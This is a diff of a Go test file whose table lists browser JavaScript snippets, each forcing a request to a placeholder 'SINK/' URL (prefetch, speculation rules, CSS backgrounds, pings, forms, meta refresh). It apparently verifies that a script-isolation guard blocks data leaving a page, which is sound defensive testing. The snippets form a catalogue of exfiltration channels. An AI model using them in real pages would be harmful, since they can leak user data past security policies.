@@ -10,8 +10,8 @@ func TestWaysOutOfAScript(t *testing.T) {
 	repel(t, waysOut)
 }
 
-// open are ways that lead to the sink when nobody watches: what the other tests
-// count can be counted.
+// open are ways that lead to the sink without the guard. They prove that the sink of
+// the other tests counts.
 var open = []string{"fetch", "XMLHttpRequest", "sendBeacon", "WebSocket", "EventSource", "cache.add", "an image", "an image in HTML", "a script element",
 	"a stylesheet", "prefetch", "a background", "@import", "video", "an iframe", "location", "an own link", "an own form", "window.open"}
 
@@ -66,8 +66,10 @@ var waysOut = []attack{
 	{name: "preload", body: `const l = document.createElement('link'); l.relList.add('preload'); l.as = 'image'; l.href = 'SINK/'; document.head.append(l)`},
 	{name: "prefetch in HTML", body: `document.head.insertAdjacentHTML('beforeend', '<link rel=pre' + 'fetch href="SINK/">')`},
 	{name: "prefetch by setAttribute", body: `const l = document.createElement('link'); l.setAttribute('rel', 'pre' + 'fetch'); l.setAttribute('href', 'SINK/'); document.head.append(l)`},
-	{name: "speculation rules by setAttribute", body: `const s = document.createElement('script'); s.setAttribute('type', 'speculationrules'); s.textContent = '{"prefetch":[{"source":"list","urls":["SINK/"],"eagerness":"immediate"}]}'; document.head.append(s)`, quiet: true},
-	{name: "speculation rules", body: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prefetch":[{"source":"list","urls":["SINK/"]}]}'; document.head.append(s)`},
+	{name: "speculation rules by setAttribute", body: `const s = document.createElement('script'); s.setAttribute('type', 'speculationrules');
+		s.textContent = '{"prefetch":[{"source":"list","urls":["SINK/"],"eagerness":"immediate"}]}'; document.head.append(s)`, quiet: true},
+	{name: "speculation rules", body: `const s = document.createElement('script'); s.type = 'speculationrules';
+		s.textContent = '{"prefetch":[{"source":"list","urls":["SINK/"]}]}'; document.head.append(s)`},
 	{name: "a background", body: `document.body.style.backgroundImage = 'url(SINK/)'`, quiet: true},
 	{name: "cssText", body: `document.body.style.cssText = 'background: url(SINK/)'`, quiet: true},
 	{name: "the text of a style element", body: `document.querySelector('#css').textContent = 'body { background: url(SINK/) }'`, quiet: true},
@@ -94,7 +96,8 @@ var waysOut = []attack{
 	{name: "meta refresh", body: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=SINK/'; document.head.append(m)`},
 	{name: "an own link", body: `const a = document.createElement('a'); a.href = 'SINK/'; document.body.append(a); a.click()`},
 	{name: "an own link in a new window", body: `const a = document.createElement('a'); a.href = 'SINK/'; a.target = '_blank'; document.body.append(a); a.click()`},
-	{name: "an own link in the page's frame", body: `const a = document.createElement('a'); a.href = 'SINK/'; a.target = 'i'; document.querySelector('#i').name = 'i'; document.body.append(a); a.click()`},
+	{name: "an own link in the page's frame", body: `const a = document.createElement('a'); a.href = 'SINK/'; a.target = 'i';
+		document.querySelector('#i').name = 'i'; document.body.append(a); a.click()`},
 	{name: "the page's link elsewhere", body: `const a = document.querySelector('#a'); a.href = 'SINK/'; a.click()`},
 	{name: "a ping", body: `const a = document.querySelector('#a'); a.ping = 'SINK/'; a.click()`},
 	{name: "an own form", body: `const f = document.createElement('form'); f.action = 'SINK/'; document.body.append(f); f.submit()`},
